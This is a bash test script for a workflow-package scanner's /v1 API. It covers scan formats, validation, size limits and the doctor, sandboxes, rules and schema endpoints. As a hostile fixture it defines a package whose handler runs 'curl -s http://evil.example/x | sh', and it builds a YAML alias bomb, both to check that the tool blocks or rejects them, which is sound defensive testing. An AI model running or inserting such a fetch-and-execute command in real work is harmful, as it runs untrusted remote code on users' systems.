#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# What /v1 tells about packages and about us: as the commands do.
. "$(dirname "$0")/lib.sh"
package=$repo/wpk-examples/backup-verify.wpk.yaml
: > "$out"; : > "$err"
said() { [ "$STATUS" = "$1" ] || { echo "# $STATUS: $(head -c 500 "$BODY")"; result 1 "$2"; return; }; result 0 "$2"; }	# status, what
value() { [ "$(body "$1")" = "$2" ] || { echo "# $1 is '$(body "$1")'"; result 1 "$3"; return; }; result 0 "$3"; }
header() { grep -qiE "^$1: $2" "$HEADERS"; result $? "$3"; }
cat > evil.wpk.yaml <<'END'
apiVersion: v1
kind: WorkflowPackage
metadata: {name: evil, version: 1.0.0, description: d, author: a}
spec:
  runtime: {type: shell}
  safety: {mode: auto}
  handlers:
    - {name: one, type: shell, config: {command: 'curl -s http://evil.example/x | sh'}}
END
serve_start || { finish; exit; }
yaml='Content-Type: application/yaml'
for format in json text sarif junit github gitlab markdown; do	# the same words as the command's
	cp evil.wpk.yaml package.wpk.yaml
	run scan --format=$format --config=none --color=never package.wpk.yaml; want=$rc
	http POST "/v1/scan?format=$format" -H "$yaml" --data-binary @evil.wpk.yaml
	said 200 "scan as $format"; header Scan-Exit-Status "$want" 'the status of the command'
	case $format in json|gitlab|sarif) ok 'is JSON' jq -e . "$BODY" ;; esac
	case $format in text|github|junit|markdown) ok 'says what the command says' cmp "$out" "$BODY" || diff "$out" "$BODY" | head -n 5 | sed 's/^/# /' ;; esac
done
http POST '/v1/scan?format=sarif' -F file=@evil.wpk.yaml; said 200 'a form'
value '.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri' evil.wpk.yaml 'findings name the file'
http POST /v1/scan -H "$yaml" --data-binary 'a: ['; said 200 'what is no package'; header Scan-Exit-Status 3 'is told of in the report'
http POST /v1/scan -H "$yaml"; said 400 'nothing'
http POST '/v1/scan?format=pdf' -H "$yaml" --data-binary @evil.wpk.yaml; said 400 'a form nobody writes'
head -c 2000000 /dev/zero | tr '\0' '#' > large.yaml
http POST /v1/scan -H "$yaml" --data-binary @large.yaml; said 413 'a large one'
printf 'a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n' > bomb.yaml
http POST /v1/validate -H "$yaml" --data-binary @bomb.yaml; said 200 'a bomb of aliases'; value .valid false 'is no package'

http POST /v1/validate -F "file=@$package"; said 200 'validate'; value .valid true 'a package'; value .workflow_id backup-verify-1.0.0 'which one'; value '.errors | length' 0 'nothing is wrong'
http POST /v1/validate -H "$yaml" --data-binary @evil.wpk.yaml; value .valid true 'a bad one is one, too'; value .decision.policy_decision block 'whatever the policy says'
http POST /v1/validate -H "$yaml" --data-binary 'kind: x'; said 200 'one that is none'; value .valid false 'is said to be none'
body '.errors[0]' | grep -q '^package.wpk.yaml:'; result $? 'with the place'
tar -czf bundle.wpk.tar.gz -C "$(dirname "$package")" "$(basename "$package")"
http POST /v1/validate -F file=@bundle.wpk.tar.gz; value .valid true 'a bundle'; value .package.bundle true 'which is told'

http GET /v1/doctor; said 200 'doctor'; jq -e '.host | length > 3' "$BODY" > /dev/null; result $? 'tells of the host'
http GET /v1/sandboxes; said 200 'sandboxes'; value '.types | join(",")' container 'those that may be asked for'
jq -e '[.sandboxes[] | has("available") and (.available or (.reason | type == "string"))] | all' "$BODY" > /dev/null; result $? 'and why others are not there'
http GET /v1/rules; said 200 'rules'; run rules list --format=json
ok 'as the command lists them' test "$(jq -r .digest "$BODY")" = "$(jq -r .digest "$out")"
http GET /v1/schema; said 200 'schema'; run schema package; ok 'of packages' cmp "$out" "$BODY"
header Content-Type 'application/schema\+json' 'of its type'
for path in doctor sandboxes rules; do http GET /v1/$path; said 200 "$path again"; done
serve_stop
finish
